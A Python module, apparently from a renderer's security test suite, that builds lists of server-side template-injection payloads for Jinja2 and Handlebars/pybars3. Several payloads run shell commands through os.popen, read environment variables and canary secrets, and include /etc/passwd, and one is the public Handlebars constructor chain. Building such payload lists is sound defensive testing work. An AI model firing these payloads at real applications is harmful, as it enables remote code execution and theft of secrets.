"""Template-injection payloads: the public escape routes for Jinja2 and Handlebars, and SPEC.md §4's pybars3 one."""

from __future__ import annotations

# Python objects a Jinja2 escape starts from, and the chains that lead from them to os, builtins or the process.
_JINJA_STARTS = [
    "''",
    "()",
    "[]",
    "{}",
    "1",
    "cycler",
    "lipsum",
    "joiner",
    "namespace",
    "range",
    "dict",
    "self",
    "data",
    "loop",
    "config",
    "request",
]
_JINJA_CHAINS = [
    ".__class__",
    ".__class__.__mro__[1].__subclasses__()",
    ".__class__.__base__.__subclasses__()",
    ".__init__.__globals__",
    ".__init__.__globals__.os.environ",
    ".__globals__['os'].popen('env').read()",
    "|attr('__class__')|attr('__base__')|attr('__subclasses__')()",
    "|attr('\\x5f\\x5fclass\\x5f\\x5f')",
    "['__class__']['__mro__']",
]
_JINJA_EXTRA = [
    "{{ self._TemplateReference__context }}",
    "{{ self.__dict__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__()[132].__init__.__globals__['popen']('env').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
    "{{ '{0.__class__.__mro__}'.format('') }}",
    "{{ '{0.__init__.__globals__}'.format(cycler) }}",
    "{{ '%s'|format(cycler.__init__.__globals__) }}",
    "{{ data.update({'x': 1}) }}{{ data }}",
    "{{ data.items.__self__ }}",
    "{{ data.pop('name') }}",
    "{{ items.append(1) }}{{ items }}",
    "{{ (1).__class__.__subclasses__() }}",
    "{{ range(3).__class__.__base__ }}",
    "{{ lipsum.__globals__['os'].environ }}",
    "{{ cycler.__init__.__globals__.os.environ['IEP_RENDER_CANARY'] }}",
    "{{ joiner.__init__.__globals__.os.getenv('IEP_RENDER_CANARY') }}",
    "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "{% set x = namespace() %}{{ x.__init__.__globals__ }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ url_for.__globals__['os'] }}",
    "{% import 'os' as os %}{{ os }}",
    "{% include '/etc/passwd' %}",
    "{% extends '/proc/self/environ' %}",
    "{{ ''.__class__.__mro__[-1].__subclasses__() | map(attribute='__name__') | join(',') }}",
    "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')()|list }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').environ }}",
]
JINJA_PAYLOADS = (
    [f"{{{{ {start}{chain} }}}}" for start in _JINJA_STARTS[:6] for chain in _JINJA_CHAINS]
    + [f"{{{{ {start}.__init__.__globals__ }}}}" for start in _JINJA_STARTS[6:]]
    + _JINJA_EXTRA
)

_HBS_CORE = [
    "{{[a') or __import__('os').getpid() or (']}}",
    "{{[a') or __import__('os').environ or (']}}",
    "{{[a') or __import__('os').getenv('IEP_RENDER_CANARY') or (']}}",
    "{{[') + str(__import__('os').environ) + (']}}",
    "{{\"\\\" + __import__('os').getenv('IEP_RENDER_CANARY') + \\\"\"}}",
    "{{constructor.constructor 'return process'}}",
    "{{constructor.constructor 'return process.env'}}",
    "{{#with this.constructor as |c|}}{{c.constructor 'return process.env'}}{{/with}}",
    "{{__proto__}}",
    "{{lookup this '__proto__'}}",
    "{{lookup (lookup this 'constructor') 'name'}}",
    "{{#with __proto__}}{{constructor}}{{/with}}",
    "{{this.__class__}}",
    "{{this.__class__.__mro__}}",
    "{{[__class__].[__mro__]}}",
    "{{this.__init__.__globals__}}",
    "{{#with this as |x|}}{{x.__class__}}{{/with}}",
    "{{#each this}}{{@key}}={{this.__class__}};{{/each}}",
    "{{lookup this '__class__'}}",
    "{{lookup (lookup this '__class__') '__subclasses__'}}",
    "{{__import__}}",
    "{{os.environ}}",
    "{{name.__class__.__base__.__subclasses__}}",
    "{{#with 'e'}}{{this.constructor}}{{/with}}",
    (
        "{{#with 's' as |string|}}{{#with 'e'}}{{#with split as |conslist|}}{{this.pop}}"
        "{{this.push (lookup string.sub 'constructor')}}{{this.pop}}{{#with string.split as |codelist|}}"
        "{{this.pop}}{{this.push 'return process.env;'}}{{this.pop}}{{#each conslist}}"
        "{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"
    ),
    "{{> (lookup this 'constructor')}}",
    "{{log (lookup this '__class__')}}",
]
# Each simple payload also in triple-stash (unescaped output), and inside a block, so every path is covered.
_SIMPLE = [p for p in _HBS_CORE if not p.startswith(("{{#", "{{>"))]
HANDLEBARS_PAYLOADS = (
    _HBS_CORE
    + ["{" + p + "}" for p in _SIMPLE]
    + ["{{#each items}}" + p.replace("this", "../this") + "{{/each}}" for p in _SIMPLE]
)
